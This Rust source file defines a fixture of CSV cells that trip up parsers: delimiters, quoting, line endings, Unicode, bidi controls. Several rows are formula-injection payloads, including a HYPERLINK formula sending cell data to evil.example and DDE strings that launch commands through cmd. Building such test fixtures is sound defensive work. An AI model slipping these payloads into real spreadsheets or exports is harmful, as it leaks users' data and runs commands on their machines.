//! Cells that readers of CSV trip over.

/// What readers trip over, a row each. The second column says what.
pub const HOSTILE: [[&str; 3]; 27] = [
    ["User", "What", "Details"],
    ["Ann, the first", "comma", "a,b,,c"],
    ["Ann; the second", "semicolon", "a;b;;c"],
    ["Ann \"the third\"", "quotes", "\"\"quoted\"\""],
    ["\"", "only a quote", "\"\""],
    ["", "empty", ""],
    ["  spaces  ", "outer spaces", " "],
    ["two\nlines", "LF", "\n\n"],
    ["two\r\nlines", "CR LF", "\r\n"],
    ["two\rlines", "CR", "end\r"],
    ["tab\there", "tab", "a\tb"],
    ["\\", "backslash", "\\\"\\n"],
    [
        "{\"role\":\"ADMIN\",\"n\":9007199254740993}",
        "JSON",
        "[1,-2]",
    ],
    ["\u{feff}mark", "byte order mark", "a\u{feff}b"],
    ["Jürgen Straße", "German", "İstanbul ŞIŞLİ"],
    [
        "王小明，主任",
        "Chinese with a full-width comma",
        "東京・大阪",
    ],
    ["שרה לוי", "Hebrew", "\u{202e}reversed"],
    ["👩🏽‍💻 Zoë", "emoji", "e\u{301}"],
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "formula",
        "=1+1",
    ],
    ["+cmd|' /C calc'!A0", "DDE", "-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "Lotus", "＝1+1"],
    ["\t=1+1", "tab before a formula", "\r=1+1"],
    [" =1+1", "space before a formula", "\u{a0}@SUM(1)"],
    ["'=1+1", "a mark that came with it", "'plain"],
    ["note;=1+1", "formula after a semicolon", "note,=1+1"],
    ["-12.5", "number", "+3e5"],
    ["-", "no value", "+49 151 2345678"],
];
